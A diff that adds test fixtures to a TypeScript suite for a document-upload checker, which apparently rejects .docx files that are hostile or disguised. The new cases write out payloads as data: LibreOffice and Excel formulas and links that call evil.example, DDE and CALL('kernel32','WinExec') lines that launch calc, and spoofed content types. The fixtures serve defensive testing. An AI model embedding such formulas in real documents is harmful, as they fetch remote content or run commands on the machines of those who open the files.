@@ -27,6 +27,29 @@ const ofAnotherKind: Hostile[] = [
   hostile('that is a worksheet', ofKind(`${office}.spreadsheetml.sheet.main+xml`), 'not a .docx'),
   hostile('that is a presentation', ofKind(`${office}.presentationml.presentation.main+xml`), 'not a .docx'),
   hostile('that is a web page', ofKind('text/html'), 'do not need'),
+  // LibreOffice goes by the letters, and then by the parts of other kinds of documents.
+  ...[`${wordType}; a=b`, wordType.replace('main', 'MAIN'), ` ${wordType}`].map((kind) =>
+    hostile(`whose kind is spelled "${kind}"`, ofKind(kind), 'damaged'),
+  ),
+  ...[
+    ['http://x.example/officeDocument', 'word/document.xml'],
+    ['officeDocument', 'WORD/document.xml'],
+    ['officeDocument', './word/document.xml'],
+  ].map(([type = '', target = '']) =>
+    hostile(
+      `whose main part is ${target}, by ${type}`,
+      docxFile({ '_rels/.rels': relationships([type, target]) }),
+      'damaged',
+    ),
+  ),
+  hostile(
+    'whose list spells the main part in capitals',
+    docxFile({}, { '/word/document.xml': 'application/xml', '/WORD/document.xml': wordType }),
+    'damaged',
+  ),
+  ...['content.xml', 'META-INF/manifest.xml', 'Meta-Inf/Manifest.xml', 'index.xml', 'Index/Document.iwa'].map((name) =>
+    hostile(`that has ${name} as well`, docxFile({ [name]: '<x/>' }, { iwa: 'application/octet-stream' }), 'joined'),
+  ),
 ];
 
 const activeKinds = [
@@ -165,10 +188,12 @@ const packaged: Hostile[] = [
     withObject({ [native]: packagedFile('a.zip', zip([{ name: 'b.zip', data: zip([{ name: 'a.js', data: 'x' }]) }])) }),
     'may be a program',
   ),
-  hostile(
-    'with a program attached to a message inside',
-    withObject({ [native]: packagedFile('a.msg', message('a.exe')) }),
-    'may be a program',
+  ...['a.msg', 'a.doc'].map((name) =>
+    hostile(
+      `with a message of Outlook inside, as ${name}`,
+      withObject({ [native]: packagedFile(name, message('a.pdf')) }),
+      name === 'a.msg' ? 'may be a program' : 'an embedded message of Outlook',
+    ),
   ),
 ];
 
@@ -278,6 +303,26 @@ const openDocuments: Hostile[] = [
     ofLibreOffice('<o:image xlink:href="https://evil.example/x.png"/>'),
     'fetched',
   ),
+  ...[
+    '<f:instance src="http://evil.example/x"/>',
+    '<f:submission action="http://evil.example/x"/>',
+    '<o:button o:image-data="//evil.example/x.png"/>',
+    '<o:thing o:somewhere="\\\\evil.example\\x"/>',
+    '<o:a href="http://evil.example/x"/>',
+  ].map((content) =>
+    hostile(
+      `with a document of LibreOffice with ${content} inside`,
+      ofLibreOffice(content.replace('/>', ' xmlns:f="urn:f"/>')),
+      'fetched from elsewhere',
+    ),
+  ),
+  ...['of:=WEBSERVICE([.A1])', 'of:=DDE("cmd";"/c calc";"x")', "of:='http://evil.example/a.ods'#$S.A1"].map((formula) =>
+    hostile(
+      `with a document of LibreOffice with the formula ${formula} inside`,
+      ofLibreOffice(`<o:table-cell o:formula="${formula.replaceAll('"', '&quot;')}"/>`),
+      'a formula that fetches',
+    ),
+  ),
   hostile(
     'with a document of LibreOffice with a link to a share inside',
     ofLibreOffice('<o:a xlink:href="file://evil.example/x"/>'),
@@ -303,9 +348,8 @@ const streams: [names: string[], content: string, because: Hostile['because']][]
   [['Macros', '_VBA_PROJECT', '_VBA_PROJECT_CUR', 'VBA'], 'x', 'macros'],
   [['\u0003OCXNAME', '\u0003OCXDATA'], 'x', 'controls'],
   [['EncryptedPackage', '\tDRMContent'], 'x', 'locked or broken'],
-  [['Package', 'Package_stream', 'CONTENTS', 'EmbeddedOdf', '__substg1.0_37010102'], 'MZ', 'embedded program'],
-  [['__substg1.0_3704001E', '__substg1.0_3707001E'], 'a.exe', 'may be a program'],
-  [['__substg1.0_3704001F', '__substg1.0_3707001F'], 'a\0.\0e\0x\0e\0', 'may be a program'],
+  [['Package', 'Package_stream', 'CONTENTS', 'EmbeddedOdf'], 'MZ', 'embedded program'],
+  [['__substg1.0_37010102', '__substg1.0_8000001F', '__properties_version1.0'], 'x', 'an embedded message of Outlook'],
 ];
 
 /** A presentation's record of what a click does: 1 runs a macro, 2 a program. */
@@ -398,6 +442,24 @@ const sheet = (changes: Record<string, string | Buffer>, kinds: Record<string, s
     },
     { xlsx: `${office}.spreadsheetml.sheet` },
   );
+
+const formulas: Hostile[] = [
+  ['f', '_xlfn.WEBSERVICE("http://evil.example")'],
+  ['f', '_xlfn.IMAGE (A1)'],
+  ['f', 'WEB<!-- x -->SERVICE(A1)'],
+  ['definedName', 'RTD("x.y",,"z")'],
+  ['formula1', 'CALL("kernel32","WinExec","JCJ","calc",0)'],
+  ['f', "'\\\\evil.example\\share\\[a.xls]Sheet'!A1"],
+  ['f', "'http://evil.example/[a.xls]Sheet'!A1"],
+].map(([element = '', formula = '']) =>
+  hostile(
+    `with a worksheet with the ${element} ${formula}`,
+    sheet({
+      'xl/a.xml': `<x xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><${element}>${formula}</${element}></x>`,
+    }),
+    'a formula that fetches',
+  ),
+);
 
 const otherKinds = [
   ...[
@@ -506,5 +568,6 @@ export const docxsWithFiles: Hostile[] = [
   ...openDocuments,
   ...objects,
   ...sheets,
+  ...formulas,
   ...ofOtherKinds,
 ];
